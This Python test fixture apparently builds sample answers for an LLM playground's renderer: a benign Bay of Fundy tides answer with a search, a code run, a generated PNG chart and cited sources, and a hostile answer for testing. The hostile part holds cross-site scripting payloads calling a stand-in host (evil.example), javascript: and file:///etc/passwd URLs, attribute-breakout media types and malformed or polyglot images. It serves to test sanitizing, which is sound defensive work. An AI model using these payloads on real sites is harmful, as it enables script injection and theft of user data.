"""Answers with parts of every kind: one as people get it, and one by an attacker."""

import json
import struct
import zlib

from llm_playground.parts import (
    AudioPart,
    ImagePart,
    OtherPart,
    RefusalPart,
    ServerToolCall,
    ServerToolResult,
    Source,
)

WIDTH, HEIGHT = 640, 240
PAPER, INK, BAR = (250, 250, 248), (96, 96, 96), (21, 101, 192)


def png(rows):
    """A PNG of rows of RGB values."""
    lines = b"".join(b"\0" + bytes(channel for pixel in row for channel in pixel) for row in rows)
    head = struct.pack(">IIBBBBB", len(rows[0]), len(rows), 8, 2, 0, 0, 0)
    data = b"\x89PNG\r\n\x1a\n"
    for block in (b"IHDR" + head, b"IDAT" + zlib.compress(lines), b"IEND"):
        data += struct.pack(">I", len(block) - 4) + block + struct.pack(">I", zlib.crc32(block))
    return data


def chart():
    """A bar chart of four quarters, as a code tool would draw it."""
    heights = (96, 104, 108, 180)

    def pixel(x, y):
        from_bottom, place = HEIGHT - 20 - y, x - 60
        if from_bottom in (0, 1):
            return INK
        bar, within = divmod(place, 140)
        inside = place >= 0 and within < 80 and bar < len(heights)
        return BAR if inside and 0 < from_bottom <= heights[bar] else PAPER

    return png([[pixel(x, y) for x in range(WIDTH)] for y in range(HEIGHT)])


CODE = """import pandas as pd

tides = pd.read_csv("tides.csv", parse_dates=["time"])
range_m = tides.groupby(tides.time.dt.quarter)["height_m"].agg(lambda h: h.max() - h.min())
range_m.plot.bar(title="Tidal range by quarter")
print(range_m.round(1))"""
BEGIN = """Tides in the Bay of Fundy have the **largest range on Earth**, because the bay's own \
period is close to that of the Moon's pull.

| Quarter | Range | Change |
|---|---|---|
| Q1 | 13.6 m | +0.2 m |
| Q2 | 14.1 m | +0.5 m |

I checked this with last year's measurements:

"""
END = """

The range grows towards the equinoxes, and the highest tides follow the full moon by about two \
days."""


def _after(text, words):
    return text.index(words) + len(words)


SOURCES = (
    Source(
        "Bay of Fundy tides: why the highest?",
        "https://oceanservice.noaa.gov/facts/highesttide.html",
        "The highest tides in the world can be found in Canada at the Bay of Fundy.",
        (_after(BEGIN, "on Earth**"),),
    ),
    Source(
        "Tidal resonance",
        "https://en.wikipedia.org/wiki/Tidal_resonance",
        None,
        (_after(BEGIN, "Moon's pull."), len(BEGIN) + _after(END, "equinoxes")),
    ),
    Source(
        "Spring and neap tides",
        "https://www.admiralty.co.uk/spring-and-neap-tides",
        "Springs occur about two days after full and new Moon.",
        (len(BEGIN) + len(END),),
    ),
)
FAIR = (
    ServerToolCall("s1", "web_search", '{"query": "Bay of Fundy tidal range resonance"}'),
    ServerToolResult("s1", "web_search", "3 results: noaa.gov, wikipedia.org, admiralty.co.uk"),
    BEGIN,
    ServerToolCall("c1", "code_execution", '{"code": ' + json.dumps(CODE) + "}"),
    ServerToolResult("c1", "code_execution", "time\n1    13.6\n2    14.1\n3    14.3\n4    15.9"),
    ImagePart("image/png", chart()),
    END,
)

STEAL = "window.stolen = 1; fetch('http://evil.example/part')"
SVG = f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{STEAL}\"><script>{STEAL}</script></svg>"
TAGS = f'</code></pre></details><script>{STEAL}</script><img src=x onerror="{STEAL}">'
LONG = "w" * 3_000
HUGE = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + struct.pack(">II", 60_000, 60_000) + bytes(30)
POLYGLOT = png([[(255, 0, 0)]]) + f"<script>{STEAL}</script>".encode()


def hostile_sources():
    urls = (
        "javascript:window.stolen=2",
        "JaVaScRiPt:window.stolen=2//",
        "data:text/html,<script>window.stolen=3</script>",
        "file:///etc/passwd",
        "https://good.example\\@evil.example/",
        'https://good.example/"onmouseover="window.stolen=4',
        "https://good.example/ onmouseover=window.stolen=4",
        "https://good.example/\u202egpj.exe",
        "https://xn--80ak6aa92e.example/",
        f"https://{LONG[:300]}.example/{LONG[:1000]}",
        "//evil.example/relative",
        "#prompt",
        "",
    )
    for url in urls:
        yield Source(f"{TAGS} \u202etxet neddih {LONG}", url, f"{TAGS} {LONG}", (3, 10**9, -5))
    yield Source(None, None, None)


def hostile_parts():
    for data, media_type in (
        (SVG.encode(), "image/svg+xml"),
        (SVG.encode(), "image/png"),
        (TAGS.encode(), "text/html"),
        (HUGE, "image/png"),
        (POLYGLOT, "image/png"),
        (png([[(0, 0, 0)] * 40] * 40)[:60], "image/png"),
        (b"GIF89a" + TAGS.encode(), 'image/gif" onload="window.stolen=5'),
        (b"", "image/png"),
    ):
        yield ImagePart(media_type, data)
    for url in ("http://evil.example/pixel.png", f"data:image/svg+xml,{SVG}", "javascript:1"):
        yield ImagePart(None, url=url)
    yield AudioPart("audio/wav", SVG.encode(), TAGS)
    yield AudioPart('audio/mpeg" onplay="x', b"ID3" + bytes(50), TAGS)
    for name in ("web_search", "code_execution", "web_fetch", f"{TAGS}{LONG}"):
        for key in ("query", "code", "url", "language"):
            yield ServerToolCall("1", name, json.dumps({key: TAGS + LONG}))
        yield ServerToolResult("1", name, TAGS + LONG, is_error=True)
    yield ServerToolCall("1", "code_execution", '{"code": "x", "language": "\\"><script>"}')
    yield RefusalPart(TAGS + LONG)
    yield OtherPart(TAGS, "{" + TAGS)
    yield OtherPart("video", "[" * 5_000)


HOSTILE = ("Before. ", *hostile_parts(), f"{TAGS}\n\nThe end.")
